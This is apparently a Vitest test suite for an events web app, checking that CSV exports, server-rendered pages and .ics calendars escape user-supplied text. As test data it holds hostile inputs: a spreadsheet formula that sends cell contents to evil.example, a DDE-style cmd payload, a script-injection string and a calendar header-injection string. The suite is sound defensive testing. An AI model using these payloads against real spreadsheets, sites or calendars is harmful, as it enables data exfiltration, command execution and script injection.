import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signInAs } from '../modules/accounts/accounts.factory.ts';
import { buildCast, eventBody } from '../modules/events/events.fixtures.ts';
import { campaigns, events } from '../modules/events/events.tables.ts';
import { fairs } from '../modules/fairs/fairs.tables.ts';
import { buildEvent } from '../modules/registrations/registrations.fixtures.ts';
import { createTestApp, type TestContext } from '../testing.ts';

// What the server writes from people's text: CSV cells a spreadsheet would run as formulas, the server-rendered
// page with `$` patterns and script closers in a name, calendars with line breaks in a title; and titles that
// refuse line breaks in the first place.

let t: TestContext;
let cast: Awaited<ReturnType<typeof buildCast>>;
beforeAll(async () => {
  t = await createTestApp();
  cast = await buildCast(t);
});
afterAll(async () => t?.close());

const inject = (method: 'GET' | 'POST' | 'PATCH', url: string, cookie?: string, payload?: object) =>
  t.app.inject({ method, url, payload, headers: cookie ? { cookie } : {} });

describe('CSV formula injection', () => {
  it('an organisation renamed to a formula by its editor lands in the events CSV as text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
    const renamed = await inject('PATCH', `/api/organizations/${cast.org.id}`, cast.organizer.cookie, {
      name: formula,
    });
    expect(renamed.statusCode).toBe(200);
    await buildEvent(t.db, cast.network.id, {
      title: '@SUM(1+1)*cmd|" /C calc"!A0',
      venueName: '+33 salle',
      organizerOrganizationIds: [cast.org.id],
    });
    const csv = await inject('GET', '/api/events.csv');
    expect(csv.statusCode).toBe(200);
    const cells = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.split(';').map((c) => c.replace(/^"/, '')));
    expect(cells).toContain('\'@SUM(1+1)*cmd|"" /C calc""!A0"');
    expect(cells).toContain("'+33 salle");
    expect(csv.body).toContain(`'=HYPERLINK(`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

describe('server-rendered pages', () => {
  it('keep `$` patterns and script closers in a name as text', async () => {
    const name = "Coop $' $` $& $1 </script><!-- <script>alert(1)</script>";
    const admin = await signInAs(t.app, t.deps, { email: 'page-admin@outputs.test', isPlatformAdmin: true });
    expect((await inject('PATCH', `/api/organizations/${cast.org.id}`, admin, { name })).statusCode).toBe(
      200,
    );
    const page = await inject('GET', `/annuaire/${cast.org.id}`);
    expect(page.statusCode).toBe(200);
    const html = page.body;
    expect(html.match(/<html/g)).toHaveLength(1);
    expect(html.match(/<\/html>/g)).toHaveLength(1);
    expect(html.match(/<div id="root">/g)).toHaveLength(1);
    const scripts = [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)];
    expect(scripts).toHaveLength(1);
    expect(scripts[0][1]).not.toMatch(/<|>/);
    expect(JSON.parse(scripts[0][1]).name).toBe(name);
    expect(html).not.toContain('<script>alert(1)');
  });
});

describe('calendars and titles', () => {
  it('write a title holding line breaks as one escaped line of the .ics', async () => {
    const event = await buildEvent(t.db, cast.network.id, {
      title: 'Atelier\r\nBEGIN:VEVENT\r\nSUMMARY:piège\nX-INJECTED:1',
    });
    const ics = await inject('GET', `/api/events/${event.id}.ics`);
    expect(ics.statusCode).toBe(200);
    const lines = ics.body.split('\r\n');
    expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(1);
    expect(lines.some((l) => l.startsWith('X-INJECTED') || l.startsWith('SUMMARY:piège'))).toBe(false);
    expect(lines).toContain('X-WR-CALNAME:Atelier\\nBEGIN:VEVENT\\nSUMMARY:piège\\nX-INJECTED:1');
  });

  it('refuse line breaks in event, campaign, fair and organisation titles, naming the field', async () => {
    const broken = 'Forum\nBEGIN:VEVENT';
    const event = await inject('POST', '/api/events', cast.organizer.cookie, {
      ...eventBody(cast.org.id),
      title: broken,
    });
    expect(event.statusCode).toBe(400);
    expect(event.json().error.fields).toEqual({ title: 'sur une seule ligne, sans retour à la ligne' });

    const org = await inject('PATCH', `/api/organizations/${cast.org.id}`, cast.organizer.cookie, {
      name: broken,
    });
    expect(org.statusCode).toBe(400);
    expect(Object.keys(org.json().error.fields)).toEqual(['name']);

    const [campaign] = await t.db
      .insert(campaigns)
      .values({
        networkId: cast.network.id,
        slug: 'mois-ess',
        name: 'Mois',
        startsOn: '2026-11-01',
        endsOn: '2026-11-30',
      })
      .returning();
    const c = await inject('PATCH', `/api/campaigns/${campaign.id}`, cast.coordinator.cookie, {
      name: broken,
    });
    expect(c.statusCode).toBe(400);
    expect(Object.keys(c.json().error.fields)).toEqual(['name']);

    const e = await buildEvent(t.db, cast.network.id);
    const [fair] = await t.db
      .insert(fairs)
      .values({ eventId: e.id, networkId: cast.network.id, name: 'Village' })
      .returning();
    const f = await inject('PATCH', `/api/fairs/${fair.id}`, cast.coordinator.cookie, { name: broken });
    expect(f.statusCode).toBe(400);
    expect(Object.keys(f.json().error.fields)).toEqual(['name']);
    const [kept] = await t.db.select().from(events).where(eq(events.id, e.id));
    expect(kept.title).not.toContain('\n');
  });
});
